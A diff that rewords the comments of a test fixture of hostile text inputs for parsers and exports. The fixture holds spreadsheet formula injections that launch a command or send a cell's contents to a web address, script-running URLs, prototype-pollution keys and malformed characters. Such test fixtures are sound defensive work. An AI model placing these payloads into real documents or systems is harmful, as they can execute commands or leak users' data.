@@ -1,9 +1,9 @@
 /**
- * Texts that whoever may write a ticket, a command or a comment can put into any text field, by what each one tries.
- * Tests put every one of them into every parser, page, message and export.
+ * Texts that an author of a ticket, a command or a comment can put into any text field, by what each attempts. Tests
+ * put every one of them into every parser, page, message and export.
  */
 export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
-  // Dates and times that are none, or that few calendars reach.
+  // Dates and times that are invalid, or that few calendars support.
   "a time that is none": "Review 2026-99-99T99:99Z",
   "a time of an hour that is none": "2026-06-15T25:61:61Z",
   "a time of an offset that is none": "2026-06-15T08:00:00+99:99",
@@ -19,7 +19,7 @@ export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
   "a number past what dates reach": "8640000000000001",
   "many times that are none": "2026-99-99T99:99Z ".repeat(200),
 
-  // Characters that are not seen, that turn the direction of writing, or that are half of one.
+  // Characters that are invisible, that change the direction of writing, or that are half of a surrogate pair.
   "a NUL": "Review\u0000of Payroll",
   controls: "Review\u0007\u0008\u001b[31mred\u007f\u0085",
   "a high surrogate alone": "Review \ud83d",
@@ -48,7 +48,7 @@ export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
   "markup of Jira": "{code}h1. Review{code} [~accountid:1] {{monospace}} |table| !image.png!",
   "the heading of an issue form": "### Connector\n\n_No response_\n\n### Owner\n\nada@example.com",
 
-  // Names of what every object has, and text that is data somewhere else.
+  // Names of properties that every object has, and text that is data elsewhere.
   "the name of a prototype": "__proto__",
   "the name of a constructor": "constructor",
   "the name of a method": "toString",
@@ -64,7 +64,7 @@ export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
   "a number that is too large": "1e999",
   "nothing, in words": "undefined null true",
 
-  // What a spreadsheet takes for a formula, and what ends a cell.
+  // Text that a spreadsheet reads as a formula, and text that ends a cell.
   "a formula": `=HYPERLINK("https://example.com/?"&A1,"Payroll")`,
   "a formula that begins with a plus": "+1+cmd|' /C calc'!A0",
   "a formula that begins with a minus": "-2+3+cmd|' /C calc'!A0",
@@ -84,7 +84,7 @@ export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
   "a formula after a tab within": "Payroll\t=1+1",
   "a formula after a line feed within": "Payroll\n=1+1",
 
-  // Addresses and names of files.
+  // URLs and names of files.
   "an address of a script": "javascript:alert(document.domain)",
   "an address of data": "data:text/html,<script>alert(1)</script>",
   "an address without a scheme": "//example.com/%2e%2e/?a=b#c",
@@ -95,7 +95,7 @@ export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
   "an email that is none": `"ada@example.com"@<example.com>`,
   "an email with half a character": "\ud83d@example.com",
 
-  // Size.
+  // Extreme sizes.
   nothing: "",
   "a very long word": "x".repeat(100_000),
   "very many words": "Review of Payroll ".repeat(5_000),
